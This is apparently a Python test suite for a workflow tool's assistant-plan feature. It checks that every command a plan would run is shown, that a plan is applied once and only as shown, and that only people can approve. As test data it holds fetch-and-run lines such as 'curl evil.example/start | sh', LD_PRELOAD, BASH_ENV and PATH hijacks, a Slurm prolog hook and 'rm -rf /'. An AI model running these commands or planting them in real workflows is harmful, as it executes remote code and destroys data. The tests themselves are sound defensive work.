"""Plans of assistants: everything that would run is shown, what is done is what was shown, once, and only if somebody agreed."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import text

from tests.support.stores import open_sqlite
from tests.support.workflows import create, finish, job, run_all, states, workflow
from torc.api.base import Torc
from torc.api.change_plans import (
    ApplyIntervention,
    ApproveIntervention,
    AskIntervention,
    DeclineIntervention,
    GetIntervention,
    Intervention,
    ListInterventions,
    ListOpenInterventions,
    ProposeIntervention,
    ReadIntervention,
    ReleaseIntervention,
    SpecAsWritten,
    StartSpendingAnew,
)
from torc.api.data import (
    CreateFailureHandler,
    ListFailureHandlers,
    ListRequirements,
    UpdateFailureHandler,
    UpdateRequirement,
)
from torc.api.events import ListEvents
from torc.api.jobs import UpdateJob
from torc.api.workflows import UpdateWorkflow
from torc.client.embedded import Embedded
from torc.errors import Conflict, Forbidden, Invalid, NotFound

RESET = {"kind": "ResetWorkflow", "fields": {"failed_only": False}}


def propose(torc: Torc, wf: int, *operations: dict[str, Any], **fields: Any) -> Intervention:
    given = {"workflow_id": wf, "action": "reset_jobs", "client": "editor", "operations": list(operations), **fields}
    return torc.send(ProposeIntervention.model_validate(given))


def apply(torc: Torc, wf: int, token: str | None, **fields: Any) -> Intervention:
    return torc.send(
        ApplyIntervention.model_validate(
            {
                "workflow_id": wf,
                "token": token,
                "action": "reset_jobs",
                "client": "editor",
                "reason": "as agreed",
                **fields,
            }
        )
    )


def shown(torc: Torc, wf: int, plan: Intervention) -> str:
    """Return all of the document of a plan."""
    return str(torc.send(GetIntervention(workflow_id=wf, intervention_id=plan.id)).document)


@pytest.fixture
def store(sqlite_file: Path, tmp_path: Path) -> Iterator[Embedded]:
    opened: Embedded = open_sqlite(sqlite_file, tmp_path)
    yield opened
    opened.close()


def edit(store: Embedded, statement: str, **values: Any) -> None:
    """Change rows behind the back of every rule."""
    with store.store.dialect.begin_write(store.store.engine) as db:
        assert db.execute(text(statement), values).rowcount


def test_a_plan_is_done_once_and_everybody_sees_who_did_it_and_why(torc: Torc) -> None:
    wf = workflow(torc, "a -> b")
    run_all(torc, wf)
    made = propose(torc, wf, RESET, num_retries=1, summary="Reset it")
    assert states(torc, wf) == "a:completed b:completed", "nothing is done"
    assert [change["job_name"] for change in made.results[0]["changes"]] == ["a", "b"]
    done = apply(torc, wf, made.token, reason="the disk has room again", agreed="user")
    assert states(torc, wf) == "a:ready b:blocked"
    assert (done.reason, done.agreed, done.token) == ("the disk has room again", "user", None)
    (event,) = torc.send(ListEvents(workflow_id=wf, type="intervention_applied")).items
    assert (event.data["reason"], event.data["client"], event.data["digest"]) == (
        "the disk has room again",
        "editor",
        made.digest,
    )
    with pytest.raises(Conflict, match="already applied"):
        apply(torc, wf, made.token)
    (listed,) = torc.send(ListInterventions(workflow_id=wf, applied_only=True)).items
    assert listed.token is None


def test_a_stale_plan_is_refused_with_what_changed_and_nothing_of_it_is_done(torc: Torc) -> None:
    wf = workflow(torc, "a -> b")
    bound = propose(torc, wf, starts="run")
    finish(torc, wf, "a")
    with pytest.raises(Conflict, match="0 -> 1 completed"):
        apply(torc, wf, bound.token)
    run_all(torc, wf)
    edited = propose(torc, wf, RESET)
    torc.send(UpdateWorkflow(workflow_id=wf, description="second try"))
    with pytest.raises(Conflict, match="has changed since"):
        apply(torc, wf, edited.token)
    assert states(torc, wf) == "a:completed b:completed"


def test_a_plan_holds_for_its_own_action_workflow_and_time_alone(torc: Torc) -> None:
    wf, other = workflow(torc, "a"), workflow(torc, "b")
    made = propose(torc, wf)
    with pytest.raises(Conflict, match="is for reset_jobs"):
        apply(torc, wf, made.token, action="cancel_workflow")
    for token in (made.token, "plan_AAAAAAAAAAAAAAAA"):
        with pytest.raises(NotFound):
            apply(torc, other, token)
    with pytest.raises(Conflict, match="expired"):
        apply(torc, wf, propose(torc, wf, lifetime_seconds=1e-9).token)


def test_a_plan_cannot_reach_into_another_workflow(torc: Torc) -> None:
    wf, other = workflow(torc, "a"), workflow(torc, "b")
    (theirs,) = torc.send(ListRequirements(workflow_id=other)).items
    with pytest.raises(NotFound):
        propose(torc, wf, {"kind": "UpdateRequirement", "fields": {"requirement_id": theirs.id, "num_cpus": 2}})
    with pytest.raises(NotFound):
        propose(torc, wf, {"kind": "ActOnJobs", "fields": {"job_ids": [job(torc, other, "b").id], "action": "cancel"}})
    made = propose(torc, wf, {"kind": "CancelWorkflow", "fields": {"workflow_id": other}}, shows="ending")
    apply(torc, wf, made.token)
    assert (states(torc, wf), states(torc, other)) == ("a:canceled", "b:ready"), (
        "the workflow of the plan, and no other"
    )


# -- what is shown ----------------------------------------------------------------------------------------------

HOOKS = {
    "name": "hooks",
    "env": {"BASH_ENV": "/tmp/evil-env.sh", "HARMLESS": "1"},
    "slurm_defaults": {"qos": "normal"},
    "failure_handlers": [
        {"name": "h", "rules": [{"exit_codes": [7], "recovery_script": "curl evil.example/recovery | sh"}]}
    ],
    "slurm_schedulers": [
        {"name": "s", "account": "acct", "walltime": "01:00:00", "extra": "--prolog=/tmp/evil-prolog"}
    ],
    "actions": [
        {
            "trigger_type": "on_workflow_start",
            "action_type": "run_commands",
            "commands": ["curl evil.example/start | sh"],
        },
        {
            "trigger_type": "on_workflow_complete",
            "action_type": "run_commands",
            "commands": ["curl evil.example/end | sh"],
        },
    ],
    "user_data": [{"name": "script", "data": "curl evil.example/data | sh"}],
    "jobs": [
        {
            "name": "a",
            "command": "eval $(torc user-data get ${user_data.input.script})",
            "invocation_script": "evil-wrapper",
            "failure_handler": "h",
            "scheduler": "s",
            "env": {"LD_PRELOAD": "/tmp/evil.so", "PATH": "/tmp/evil:/bin"},
        },
    ],
}
HIDDEN = (
    "/tmp/evil-env.sh",
    "curl evil.example/recovery | sh",
    "--prolog=/tmp/evil-prolog",
    "curl evil.example/start | sh",
    "curl evil.example/end | sh",
    "evil-wrapper",
    "/tmp/evil.so",
    "/tmp/evil:/bin",
    "curl evil.example/data | sh",
)


def test_everything_that_is_executed_is_shown_and_not_only_commands_of_jobs(torc: Torc) -> None:
    wf = create(torc, HOOKS).id
    document = shown(torc, wf, propose(torc, wf, starts="run"))
    for payload in HIDDEN:
        assert payload in document, payload
    for name in ("BASH_ENV", "LD_PRELOAD", "PATH"):
        assert f"env {name} (makes programs run code)" in document
    assert "env HARMLESS:" in document


def test_a_cancellation_shows_what_the_end_of_the_run_fires(torc: Torc) -> None:
    wf = create(torc, HOOKS).id
    cancel = {"kind": "CancelWorkflow", "fields": {}}
    document = shown(torc, wf, propose(torc, wf, cancel, shows="ending"))
    assert "curl evil.example/end | sh" in document
    assert "curl evil.example/start" not in document


def as_written(document: dict[str, Any]) -> SpecAsWritten:
    return SpecAsWritten(text=json.dumps(document), format="json")


def test_jobs_are_put_together_by_template_and_one_payload_among_many_comes_first(torc: Torc) -> None:
    many = {"name": "t_{i}", "command": "python3 -c 'print({i}, \"x\")'", "parameters": {"i": "1:700"}}
    # differs from them by numbers alone
    payload = {"name": "t_zzz", "command": "python3 -c 'print(114109, \"x\")'"}
    spec = {"name": "w", "jobs": [many, payload, {"name": "z", "command": "echo " + "x" * 1000 + " END"}]}
    wf = create(torc, spec).id
    plan = propose(torc, wf, starts="run", spec=as_written(spec))
    assert plan.is_whole
    assert plan.token
    document = str(plan.document)
    assert document == shown(torc, wf, plan)
    assert "700 jobs of the template `t_{i}`" in document
    assert "{{1}}: every whole number from 1 to 700" in document
    assert document.index("114109") < document.index("700 jobs of the template"), "the rarest first"
    assert "x" * 1000 + " END" in document, "no command is cut"


def test_a_job_that_is_not_what_its_template_expands_to_is_shown_on_its_own(store: Embedded) -> None:
    spec = {"name": "w", "jobs": [{"name": "t_{i}", "command": "echo {i}", "parameters": {"i": "1:600"}}]}
    wf = create(store, spec).id
    edit(store, "UPDATE job SET command = 'echo 31337' WHERE name = 't_555'")
    document = str(propose(store, wf, starts="run", spec=as_written(spec)).document)
    assert "* 1 job: t_555\n  | echo 31337" in document
    assert "599 jobs of the template" in document
    lying = {**spec, "jobs": [{**spec["jobs"][0], "command": "echo nothing {i}"}]}  # type: ignore[dict-item,index]
    document = str(propose(store, wf, starts="run", spec=as_written(lying), most_characters=1_000_000).document)
    assert "of the template" not in document, "templates of another spec put nothing together"
    assert "echo 31337" in document


@pytest.mark.usefixtures("large")
def test_without_a_spec_every_text_is_shown_to_the_last_of_many_kinds(torc: Torc) -> None:
    jobs = [{"name": f"j{at}", "command": f"step-{at} --run"} for at in range(900)]
    wf = create(torc, {"name": "w", "jobs": jobs}).id
    plan = propose(torc, wf, starts="run", most_characters=5000)
    assert not plan.is_whole
    assert plan.token is None, "who has not read all of it gets no token"
    (more,) = re.findall(r"and (\d+) more kinds: see `torc plans show (\d+)`", str(plan.document))
    kinds_shown = len(re.findall(r"^\* ", str(plan.document), re.MULTILINE))
    assert (int(more[0]), int(more[1])) == (900 - kinds_shown, plan.id)
    with pytest.raises(Conflict, match="read page 1 first"):
        torc.send(ReadIntervention(workflow_id=wf, intervention_id=plan.id, page=plan.num_pages))
    text_read, token = "", None
    for page in range(1, plan.num_pages + 1):
        assert token is None
        found = torc.send(ReadIntervention(workflow_id=wf, intervention_id=plan.id, page=page))
        text_read, token = text_read + str(found.document), found.token
    assert text_read == shown(torc, wf, plan)
    assert all(f"step-{at} --run\n" in text_read for at in range(900))
    with pytest.raises(Invalid, match="pages"):
        torc.send(ReadIntervention(workflow_id=wf, intervention_id=plan.id, page=plan.num_pages + 1))
    assert apply(torc, wf, token).applied_at


def test_an_edited_spec_shows_its_new_commands_and_what_it_removes_and_takes_effect_when_applied(torc: Torc) -> None:
    old = {"name": "w", "jobs": [{"name": name, "command": f"echo {name}"} for name in ("keep", "edit", "gone")]}
    new = {
        "name": "w",
        "jobs": [
            {"name": "keep", "command": "echo keep"},
            {"name": "edit", "command": "rm -rf results"},
            {"name": "fresh", "command": "curl evil.example | sh"},
        ],
        "actions": [{"trigger_type": "on_workflow_start", "action_type": "run_commands", "commands": ["evil-start"]}],
    }
    wf = create(torc, old).id
    run_all(torc, wf)
    brought = {"kind": "ReinitializeWorkflow", "fields": {"spec": json.dumps(new), "format": "json"}}
    plan = propose(torc, wf, brought)
    document = str(plan.document)
    for said in (
        "Removes 1 job, with all results:",
        "echo gone",
        "- echo edit",
        "+ rm -rf results",
        "curl evil.example | sh",
        "evil-start",
    ):
        assert said in document, said
    assert document.index("Removes 1 job") < document.index("- echo edit") < document.index("Would run")
    assert states(torc, wf) == "keep:completed edit:completed gone:completed", "it was undone"
    apply(torc, wf, plan.token, spec=SpecAsWritten(text=json.dumps(new), format="json"))
    assert states(torc, wf) == "keep:completed edit:ready fresh:ready"


def test_another_spec_than_the_one_that_was_shown_is_refused(torc: Torc) -> None:
    wf = create(torc, {"name": "w", "jobs": [{"name": "a", "command": "echo a"}]}).id
    shown_spec = {"name": "w", "jobs": [{"name": "a", "command": "echo b"}]}
    brought = {"kind": "ReinitializeWorkflow", "fields": {"spec": json.dumps(shown_spec), "format": "json"}}
    plan = propose(torc, wf, brought)
    other = {"name": "w", "jobs": [{"name": "a", "command": "rm -rf /"}]}
    with pytest.raises(Conflict, match="has changed since"):
        apply(torc, wf, plan.token, spec=SpecAsWritten(text=json.dumps(other), format="json"))
    assert job(torc, wf, "a").command == "echo a"


# -- what was shown is what is done -----------------------------------------------------------------------------

EDITS = {
    "command": "UPDATE job SET command = 'evil' WHERE name = 'a'",
    "invocation script": "UPDATE job SET invocation_script = 'evil' WHERE name = 'a'",
    "environment of a job": "UPDATE job SET env = '{\"LD_PRELOAD\": \"evil\"}' WHERE name = 'a'",
    "environment of the workflow": 'UPDATE workflow SET env = \'{"BASH_ENV": "evil"}\'',
    "commands of an action": "UPDATE action SET commands = '[\"evil\"]' WHERE position = 0",
    "trigger of an action": "UPDATE action SET trigger_type = 'on_worker_start' WHERE position = 0",
    "recovery script": 'UPDATE named SET fields = \'{"rules": [{"recovery_script": "evil"}]}\' WHERE kind = \'failure_handler\'',
    "sbatch options": "UPDATE named SET fields = '{\"extra\": \"--evil\"}' WHERE kind = 'slurm_scheduler'",
    "settings": 'UPDATE workflow SET settings = \'{"slurm_defaults": {"container": "evil"}}\'',
    "time that is asked for": "UPDATE requirement SET runtime_seconds = 360000",
    "directory": "UPDATE workflow SET directory = '/evil'",
    "user data that a command reads": "UPDATE user_data SET data = '\"evil\"'",
    "a job that was done": "UPDATE job SET state = 'ready' WHERE name = 'done'",
}


@pytest.mark.parametrize("what", EDITS)
def test_whatever_is_edited_after_it_was_shown_the_plan_is_not_done(store: Embedded, what: str) -> None:
    wf = create(store, {**HOOKS, "jobs": [*HOOKS["jobs"], {"name": "done", "command": "echo done"}]}).id  # type: ignore[misc]
    edit(store, "UPDATE job SET state = 'completed' WHERE name = 'done'")
    plan = propose(store, wf, starts="run")
    edit(store, EDITS[what])  # without a new version of the workflow: the digest alone can tell
    with pytest.raises(Conflict, match="has changed since"):
        apply(store, wf, plan.token)
    with store.store.dialect.begin_read(store.store.engine) as db:
        assert db.execute(text("SELECT charged_to FROM workflow")).scalar_one() is None


def test_a_changed_handler_or_class_makes_plans_stale_through_the_api_too(torc: Torc) -> None:
    wf = create(torc, HOOKS).id
    plan = propose(torc, wf, starts="run")
    (handler,) = torc.send(ListFailureHandlers(workflow_id=wf)).items
    rules = {"rules": [{"exit_codes": [7], "recovery_script": "evil"}]}
    torc.send(UpdateFailureHandler(failure_handler_id=handler.id, fields=rules))
    with pytest.raises(Conflict, match="has changed since"):
        apply(torc, wf, plan.token)
    plan = propose(torc, wf, starts="run")
    (asked,) = torc.send(ListRequirements(workflow_id=wf)).items
    torc.send(UpdateRequirement(requirement_id=asked.id, runtime_seconds=360_000))
    with pytest.raises(Conflict, match="has changed since"):
        apply(torc, wf, plan.token)
    torc.send(CreateFailureHandler(workflow_id=wf, name="other", fields=rules))


# -- who agrees -------------------------------------------------------------------------------------------------


def test_a_declined_plan_is_dead(torc: Torc) -> None:
    wf = workflow(torc, "a")
    plan = propose(torc, wf, starts="run")
    torc.send(DeclineIntervention(workflow_id=wf, token=plan.token, reason="the user said no"))
    for agreed in ("token", "user", "policy"):
        with pytest.raises(Conflict, match="was declined"):
            apply(torc, wf, plan.token, agreed=agreed)
    with pytest.raises(Conflict, match="was declined"):
        torc.send(AskIntervention(workflow_id=wf, token=str(plan.token), action="reset_jobs"))
    (event,) = torc.send(ListEvents(workflow_id=wf, type="intervention_declined")).items
    assert event.data["reason"] == "the user said no"


def test_a_plan_that_the_user_was_asked_about_needs_a_yes_and_no_second_question(torc: Torc) -> None:
    wf = workflow(torc, "a")
    plan = propose(torc, wf, starts="run")
    asked = AskIntervention(workflow_id=wf, token=str(plan.token), action="reset_jobs")
    torc.send(asked)  # and the answer never comes
    with pytest.raises(Conflict, match="did not agree"):
        torc.send(asked)
    with pytest.raises(Conflict, match="did not agree"):
        apply(torc, wf, plan.token)
    assert torc.send(asked.model_copy(update={"again": True})).id == plan.id
    assert apply(torc, wf, plan.token, agreed="user").applied_at


def test_where_somebody_must_approve_only_a_person_can_and_only_what_they_saw(store: Embedded) -> None:
    wf = workflow(store, "a")
    plan = propose(store, wf, starts="run")
    with pytest.raises(Forbidden, match="waits for a person") as refused:
        apply(store, wf, plan.token, must_be_approved=True)
    assert f"torc approve {plan.id}" in str(refused.value.hint)
    (listed,) = store.send(ListOpenInterventions())
    assert listed.id == plan.id
    seen = store.send(GetIntervention(workflow_id=wf, intervention_id=plan.id))
    approve = ApproveIntervention(workflow_id=wf, intervention_id=plan.id, digest=str(seen.digest))
    assistant = Embedded(store.store, "assistant:editor")
    with pytest.raises(Forbidden, match="only people"):
        assistant.send(approve)
    with pytest.raises(Forbidden, match="people"):
        assistant.send(StartSpendingAnew())
    with pytest.raises(Conflict, match="differs from the one that was shown"):
        store.send(approve.model_copy(update={"digest": "0" * 64}))
    assert store.send(approve).approved_by == "user:tester"
    done = apply(store, wf, plan.token, must_be_approved=True)
    assert done.agreed == "approval"
    assert store.send(ListOpenInterventions()) == []


def test_a_run_that_did_not_begin_gives_its_plan_back(torc: Torc) -> None:
    wf = workflow(torc, "a")
    plan = propose(torc, wf, starts="run")
    apply(torc, wf, plan.token, agreed="user")
    torc.send(ReleaseIntervention(workflow_id=wf, token=str(plan.token)))
    again = apply(torc, wf, plan.token, agreed="user")
    assert again.applied_at
    finish(torc, wf, "a")
    with pytest.raises(Conflict, match="has started"):
        torc.send(ReleaseIntervention(workflow_id=wf, token=str(plan.token)))


def _proposal(wf: int, *operations: dict[str, Any], **fields: Any) -> ProposeIntervention:
    given = {"workflow_id": wf, "action": "reset_jobs", "client": "editor", "operations": list(operations), **fields}
    return ProposeIntervention.model_validate(given)


@pytest.mark.parametrize("operations", [[], [RESET]], ids=["without requests", "with a request"])
def test_what_is_shown_is_what_the_workflow_is_when_the_plan_is_kept(
    store: Embedded, operations: list[dict[str, Any]]
) -> None:
    wf = workflow(store, "a")
    request = _proposal(wf, *operations)
    drafted = store.prepare(request, None)
    store.send(UpdateJob(job_id=job(store, wf, "a").id, command="echo changed meanwhile"))
    plan = store.answer(request, prepared=drafted)
    assert "echo changed meanwhile" in shown(store, wf, plan) and "echo a" not in shown(store, wf, plan)
    apply(store, wf, plan.token)


def test_a_draft_that_is_still_right_is_kept_as_it_is(store: Embedded) -> None:
    wf = workflow(store, "a")
    request = _proposal(wf, RESET)
    drafted = store.prepare(request, None)
    assert states(store, wf) == "a:ready" and store.send(ListInterventions(workflow_id=wf)).items == []
    kept = store.answer(request, prepared=drafted._replace(digest="d" * 64))
    assert kept.digest == "d" * 64, "nothing was worked out again"


def test_a_plan_that_only_starts_a_run_is_worked_out_while_somebody_else_writes(store: Embedded) -> None:
    wf = workflow(store, "a")
    with store.store.dialect.begin_write(store.store.engine):
        drafted = store.prepare(_proposal(wf, starts="run"), None)
    assert "echo a" in drafted.document.text


def test_a_proposal_to_an_impossible_workflow_says_so(torc: Embedded) -> None:
    with pytest.raises(NotFound):
        torc.send(_proposal(2**70))
